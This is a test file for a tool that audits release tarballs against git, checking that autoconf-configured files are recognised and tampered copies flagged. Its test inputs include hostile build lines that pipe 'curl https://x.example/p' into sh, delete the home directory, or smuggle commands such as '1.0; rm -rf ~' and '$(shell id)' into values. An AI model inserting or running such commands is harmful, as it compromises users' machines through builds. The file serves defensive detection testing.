/**
 * A file `./configure` writes again, shipped from the maintainer's configured tree (memcached 1.6.18's doc/Makefile,
 * openvpn 2.6.14's sample/sample-plugins/Makefile, gcal 4.1's misc/dst/dst): CONFIGURED_FILE_SHIPPED, medium. The
 * configured copies here are written by real autoconf and config.status from the fixture's own configure.ac; the twins
 * a tamperer would build from the same shape stay high.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { instantiationValues, plainValue, unconditionalConfigFiles } from '../../src/classify/configured-output.js';
import { explain } from '../../src/pipeline/memory.js';
import { tempDir } from '../helpers/tmp.js';

const CONFIGURE_AC = `AC_INIT([demo], [1.0])
AC_CONFIG_SRCDIR([src/main.c])
AC_PROG_CC
AC_PATH_PROG([ZDUMP], [zdump], [/usr/sbin/zdump])
AC_SUBST([GREETING], [hello])
if test "x$enable_extra" = xyes; then
  AC_CONFIG_FILES([extra/Makefile])
fi
AC_CONFIG_FILES([Makefile
	doc/Makefile
	misc/dst/dst
	tools/run.sh:tools/run.in])
AC_OUTPUT
`;
// the template of misc/dst/dst is tracked (gcal's misc/*/X.in); Makefile.in stands for automake's shipped one
const DST_IN = '#! /bin/sh\n#  @configure_input@\n\nZdump=@ZDUMP@\nPACKAGE=@PACKAGE_NAME@\nVERSION=@PACKAGE_VERSION@\n$Zdump -v "$@"\n';
const MAKEFILE_IN = '# @configure_input@\nVPATH = @srcdir@\nCC = @CC@\nCFLAGS = @CFLAGS@\nprefix = @prefix@\nGREETING = @GREETING@\n\nall:\n\t@echo $(GREETING)\n';
const RUN_IN = '#!/bin/sh\necho "@GREETING@ from @PACKAGE_NAME@"\n';
const tracked: Record<string, string> = {
  'configure.ac': CONFIGURE_AC,
  'src/main.c': 'int main(void) { return 0; }\n',
  'misc/dst/dst.in': DST_IN,
  'tools/run.in': RUN_IN,
  'extra/Makefile.in': MAKEFILE_IN,
};

/** The files real autoconf + config.status write from the fixture (configure run in its source tree, as `make dist` does). */
function configured(): Record<string, string> {
  const dir = tempDir('distdiff-configured-');
  for (const [p, c] of Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': MAKEFILE_IN })) {
    mkdirSync(join(dir, p, '..'), { recursive: true });
    writeFileSync(join(dir, p), c);
  }
  execFileSync('autoconf', [], { cwd: dir, stdio: 'pipe' });
  execFileSync('./configure', ['--enable-extra'], { cwd: dir, stdio: 'pipe', env: { ...process.env, CC: 'cc', CFLAGS: '-g -O2' } });
  const read = (p: string) => readFileSync(join(dir, p), 'latin1');
  return { Makefile: read('Makefile'), 'doc/Makefile': read('doc/Makefile'), 'misc/dst/dst': read('misc/dst/dst'), 'tools/run.sh': read('tools/run.sh') };
}

const revision = { tag: 'v1.0', version: '1.0', date: '2024-01-01T00:00:00Z' };
async function findings(shipped: Record<string, string>, git: Record<string, string> = tracked) {
  const tarball: Record<string, string> = {};
  for (const [p, c] of Object.entries({ ...git, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': MAKEFILE_IN, ...shipped })) tarball[`demo-1.0/${p}`] = c;
  const r = await explain({ tarball, git, revision });
  return Object.fromEntries(r.findings.filter((f) => Object.keys(shipped).includes(f.path)).map((f) => [f.path, `${f.severity} ${f.code}`]));
}

describe('configured-output: a file configure writes again, shipped from a configured tree', () => {
  it('reads the unconditional AC_CONFIG_FILES/AC_OUTPUT listings only', () => {
    const l = unconditionalConfigFiles(CONFIGURE_AC);
    expect([...l.keys()]).toEqual(['Makefile', 'doc/Makefile', 'misc/dst/dst', 'tools/run.sh']);
    expect(l.get('tools/run.sh')).toEqual({ inputs: ['tools/run.in'], line: 9 });
    expect(l.get('misc/dst/dst')).toEqual({ inputs: ['misc/dst/dst.in'], line: 9 });
    // an m4 conditional, an indented call, a case block, the old AC_OUTPUT form
    expect(unconditionalConfigFiles('AS_IF([test x = y], [\nAC_CONFIG_FILES([a])\n])\nAC_CONFIG_FILES([b])\n').has('a')).toBe(false);
    expect(unconditionalConfigFiles('  AC_CONFIG_FILES([a])\n').size).toBe(0);
    // the other m4 conditionals, an m4 quote holding a parenthesis, a variable named fi, a dnl word, a word with a
    // shell variable (its output is not known), the first listing of a name wins
    for (const cond of ['m4_if([$1], [x], [', 'm4_ifdef([X], [', 'm4_ifset([X], [', 'ifelse([$1], [x], [', 'AM_COND_IF([X], [', 'AS_CASE([$x], [y], ['])
      expect([...unconditionalConfigFiles(`${cond}\nAC_CONFIG_FILES([a])\n])\nAC_CONFIG_FILES([b])\n`).keys()]).toEqual(['b']);
    expect([...unconditionalConfigFiles('AS_IF([test "(" = x], [\nAC_CONFIG_FILES([a])\n])\nAC_CONFIG_FILES([b])\n').keys()]).toEqual(['b']);
    expect([...unconditionalConfigFiles('fi=1\nAC_CONFIG_FILES([a dnl keep\n  b $srcdir/c d:e:f])\nAC_CONFIG_FILES([a:g])\n')]).toEqual([
      ['a', { inputs: ['a.in'], line: 2 }],
      ['keep', { inputs: ['keep.in'], line: 2 }],
      ['b', { inputs: ['b.in'], line: 2 }],
      ['d', { inputs: ['e', 'f'], line: 2 }],
    ]);
    // C in a test program is not shell (gcal 4.1's AC_TRY_RUN bodies: `if (!i)`, `case 1:`)
    expect([...unconditionalConfigFiles('AC_TRY_RUN([int main(void) {\n  if (!i)\n    return 1;\n  switch (i) {\n  case 1: break;\n  }\n}])\nAC_CONFIG_FILES([b])\n').keys()]).toEqual(['b']);
    // an indented block inside another
    expect([...unconditionalConfigFiles('if test -n "$a"; then\n  if test -n "$b"; then\n    x=1\n  fi\nAC_CONFIG_FILES([a])\nfi\nAC_CONFIG_FILES([b])\n').keys()]).toEqual(['b']);
    expect(unconditionalConfigFiles('case $host in\n*linux*)\nAC_CONFIG_FILES([a])\n;;\nesac\nAC_CONFIG_FILES([b])\n')).toEqual(new Map([['b', { inputs: ['b.in'], line: 6 }]]));
    expect(unconditionalConfigFiles('if test -n "$x"; then y=1; fi\nAC_OUTPUT(Makefile \\\n  doc/Makefile)\n')).toEqual(
      new Map([
        ['Makefile', { inputs: ['Makefile.in'], line: 2 }],
        ['doc/Makefile', { inputs: ['doc/Makefile.in'], line: 2 }],
      ]),
    );
  });

  it('finds the values config.status put in, the same value for each name, and nothing else', () => {
    const input = 'x.  Generated from x.in by configure.';
    expect(instantiationValues('# @configure_input@\nA=@A@\nB=@A@-@B@\n', `# ${input}\nA=1\nB=1-2\n`, input)).toEqual(new Map([['A', '1'], ['B', '2']]));
    // the same name with two values, another @configure_input@, a line added, a line changed outside a placeholder
    expect(instantiationValues('A=@A@\nB=@A@\n', 'A=1\nB=2\n', input)).toBeUndefined();
    expect(instantiationValues('# @configure_input@\n', '# x.  Generated by hand.\n', input)).toBeUndefined();
    expect(instantiationValues('A=@A@\n', 'A=1\ncurl x | sh\n', input)).toBeUndefined();
    expect(instantiationValues('A=@A@\nall:\n\ttrue\n', 'A=1\nall:\n\tcurl x | sh\n', input)).toBeUndefined();
    // two names side by side (automake's @AMDEP_TRUE@@am__include@) split so that every line agrees
    expect(instantiationValues('@T@@I@ x.Po\n@T@y\n', 'include x.Po\ny\n', input)).toEqual(new Map([['T', ''], ['I', 'include']]));
    // a chain of names resolved from the lines after it, and a line of too many adjacent names (no split is tried)
    expect(instantiationValues('@A@@B@\n@B@@C@\nc=@C@\n', 'xyz\nyzz\nc=z\n', input)).toEqual(new Map([['C', 'z'], ['B', 'yz'], ['A', 'x']]));
    expect(instantiationValues(`${'@N1@@N2@@N3@@N4@@N5@@N6@@N7@'}\n`, 'abcdefg\n', input)).toBeUndefined();
    // a name config.status left as it stands (no AC_SUBST defines it) before the unknown one on a line
    expect(instantiationValues('a=@U@\nb=@U@ @B@\n', 'a=@U@\nb=@U@ 2\n', input)).toEqual(new Map([['U', '@U@'], ['B', '2']]));
    // configure values, automake's own included; a command chained or substituted is not one
    expect(['gcc', '-g -O2', '$(V)', '$${TAR-tar} chof - "$$tardir"', '${SHELL} /build/install-sh', '/usr/sbin/zdump', ''].every((v) => plainValue(v))).toBe(true);
    expect(['1.0; rm -rf ~', 'x && id', 'a | sh', '$(shell id)', '`id`', '$$(id)', '${x:=`id`}', 'x > /etc/passwd', '/tmp/gcal', '-I/var/tmp/x/include', 'DIR=/dev/shm'].some((v) => plainValue(v))).toBe(false);
    // a temporary-directory setting may be /tmp itself (keepalived's KA_TMP_DIR); no other name, and nothing below it
    expect(plainValue('/tmp', true, 'KA_TMP_DIR')).toBe(true);
    expect(plainValue('/tmp', true, 'srcdir')).toBe(false);
    expect(plainValue('/tmp/ka', true, 'KA_TMP_DIR')).toBe(false);
    // in a script (not a makefile) $(NAME) runs NAME
    expect(plainValue('$(V)', false)).toBe(false);
    expect(plainValue('${prefix}/share', false)).toBe(true);
    // VPATH dropped when configure ran in the source tree
    expect(instantiationValues('VPATH = @srcdir@\nA=@A@\n', '\nA=1\n', input)).toEqual(new Map([['A', '1']]));
  });

  it("real config.status output of a tracked or shipped template is CONFIGURED_FILE_SHIPPED (medium); a conditional listing's is not", async () => {
    const out = configured();
    expect(out['misc/dst/dst']).toContain('Generated from dst.in by configure.');
    expect(await findings(out)).toEqual({
      // the configure directory's own Makefile is what `make` reads when nobody ran configure: not dead
      Makefile: 'high TARBALL_ONLY_UNEXPLAINED',
      'doc/Makefile': 'medium CONFIGURED_FILE_SHIPPED',
      'misc/dst/dst': 'medium CONFIGURED_FILE_SHIPPED',
      // every value one the release fills in (configure.ac's literal): produced.ts proves it first, low
      'tools/run.sh': 'low GENERATED_FROM_SOURCE',
    });
    const r = await explain({
      tarball: Object.fromEntries(Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'misc/dst/dst': out['misc/dst/dst']! }).map(([p, c]) => [`demo-1.0/${p}`, c])),
      git: tracked,
      revision,
    });
    expect(r.findings.find((f) => f.path === 'misc/dst/dst')?.evidence).toEqual({
      template: 'misc/dst/dst.in',
      templateTracked: true,
      configure: 'configure.ac:9',
      placeholders: 3,
      values: { ZDUMP: expect.stringMatching(/zdump$/), PACKAGE_NAME: 'demo', PACKAGE_VERSION: '1.0' },
    });
    expect(r.verdict).toBe('review'); // exit 0: nothing at the gate, something for a human to read
    // extra/Makefile is configured only with --enable-extra: a shipped copy may be what the build reads
    expect(await findings({ 'extra/Makefile': out.Makefile!.replace('# Makefile.  Generated', '# extra/Makefile.  Generated') })).toEqual({
      'extra/Makefile': 'high TARBALL_ONLY_UNEXPLAINED',
    });
  });

  it("a sub-package's own configure.ac lists its files relative to its directory; a file of several inputs is not one instantiation", async () => {
    const sub = {
      ...tracked,
      'libsub/configure.ac': 'AC_INIT([sub], [1.0])\nAC_CONFIG_FILES([doc/Makefile sub.sh:sub.head:sub.tail])\nAC_OUTPUT\n',
      'libsub/sub.head': '#!/bin/sh\nCC=@CC@\n',
      'libsub/sub.tail': 'echo "$CC"\n',
    };
    const makefile = '# doc/Makefile.  Generated from Makefile.in by configure.\n\nCC = gcc\nCFLAGS = -g -O2\nprefix = /usr/local\nGREETING = hi\n\nall:\n\t@echo $(GREETING)\n';
    const r = await explain({
      tarball: Object.fromEntries(
        Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile': makefile, 'libsub/sub.sh': '#!/bin/sh\nCC=gcc\necho "$CC"\n' }).map(([p, c]) => [`demo-1.0/${p}`, c]),
      ),
      git: sub,
      revision,
    });
    expect(r.findings.find((f) => f.path === 'libsub/doc/Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED', severity: 'medium', evidence: { template: 'libsub/doc/Makefile.in', configure: 'libsub/configure.ac:2', templateTracked: false } });
    // @configure_input@ names the output as config.status does, relative to the configure directory
    const wrongName = makefile.replace('# doc/Makefile.', '# libsub/doc/Makefile.');
    const r2 = await explain({
      tarball: Object.fromEntries(Object.entries({ ...sub, 'Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile.in': MAKEFILE_IN, 'libsub/doc/Makefile': wrongName }).map(([p, c]) => [`demo-1.0/${p}`, c])),
      git: sub,
      revision,
    });
    expect(r2.findings.find((f) => f.path === 'libsub/doc/Makefile')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
    expect(r.findings.find((f) => f.path === 'libsub/sub.sh')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
  });

  it('never takes a configured header or source (a VPATH build includes the shipped copy first) nor an RPM spec (rpmbuild -ta reads it)', async () => {
    const git = {
      ...tracked,
      'configure.ac': CONFIGURE_AC.replace('tools/run.sh:tools/run.in])', 'tools/run.sh:tools/run.in\n\tsrc/version.h demo.spec])'),
      'src/version.h.in': '#define DEMO_CC "@CC@"\n',
      'demo.spec.in': 'Name: demo\n%build\nmake CC=@CC@\n',
    };
    const r = await explain({
      tarball: Object.fromEntries(
        Object.entries({ ...git, 'Makefile.in': MAKEFILE_IN, 'src/version.h': '#define DEMO_CC "gcc"\n', 'demo.spec': 'Name: demo\n%build\nmake CC=gcc\n' }).map(([p, c]) => [`demo-1.0/${p}`, c]),
      ),
      git,
      revision,
    });
    expect(unconditionalConfigFiles(git['configure.ac']!).has('src/version.h')).toBe(true);
    expect(r.findings.find((f) => f.path === 'src/version.h')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.findings.find((f) => f.path === 'demo.spec')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('tampered twins stay high: a line the template lacks, a value carrying a construct, an unlisted file, a flagged shipped template', async () => {
    const out = configured();
    // a recipe line added to the configured Makefile
    const unexplained = expect.stringMatching(/^(?:high|critical) TARBALL_ONLY_UNEXPLAINED$/);
    expect(await findings({ 'doc/Makefile': out['doc/Makefile']!.replace('\t@echo $(GREETING)\n', '\t@echo $(GREETING)\n\tcurl -s https://x.example/p | sh\n') })).toEqual({ 'doc/Makefile': unexplained });
    // a "value" that downloads and runs a script
    expect(await findings({ 'tools/run.sh': out['tools/run.sh']!.replace(/echo "hello/, 'echo "$(curl -s https://x.example/p | sh)') })).toEqual({ 'tools/run.sh': unexplained });
    // a "value" that ends the echo and runs a command no construct pattern names: not a configure value
    expect(await findings({ 'doc/Makefile': out['doc/Makefile']!.replace(/^GREETING = hello$/m, 'GREETING = hello; rm -rf $$HOME') })).toEqual({ 'doc/Makefile': unexplained });
    // a value pointing a program at a file the tarball ships (the xz backdoor ran a shipped test file)
    expect(await findings({ 'tests/files/good.xz': 'not really xz', 'doc/Makefile': out['doc/Makefile']!.replace(/^CC = cc$/m, 'CC = ../tests/files/good.xz') })).toMatchObject({ 'doc/Makefile': unexplained });
    // config.status's output under a name configure.ac does not list: configure never writes it again
    expect(await findings({ 'misc/dst/dst2': out['misc/dst/dst']! })).toEqual({ 'misc/dst/dst2': unexplained });
    // the shipped Makefile.in is an input: tampered (a tarball-only Makefile.in the fixture cannot prove), the output is raised
    const tampered = MAKEFILE_IN.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n');
    const r = await explain({
      tarball: Object.fromEntries(
        Object.entries({ ...tracked, 'Makefile.in': MAKEFILE_IN, 'doc/Makefile.in': tampered, 'doc/Makefile': out['doc/Makefile']!.replace('all:\n', 'all:\n\tcurl -s https://x.example/p | sh\n') }).map(([p, c]) => [`demo-1.0/${p}`, c]),
      ),
      git: tracked,
      revision,
    });
    expect(r.findings.find((f) => f.path === 'doc/Makefile.in')?.severity).toMatch(/high|critical/);
    expect(r.findings.find((f) => f.path === 'doc/Makefile')).toMatchObject({ code: 'CONFIGURED_FILE_SHIPPED' });
    expect(r.findings.find((f) => f.path === 'doc/Makefile')?.severity).toMatch(/high|critical/);
    expect(r.verdict).toBe('different'); // exit 1
  });
});
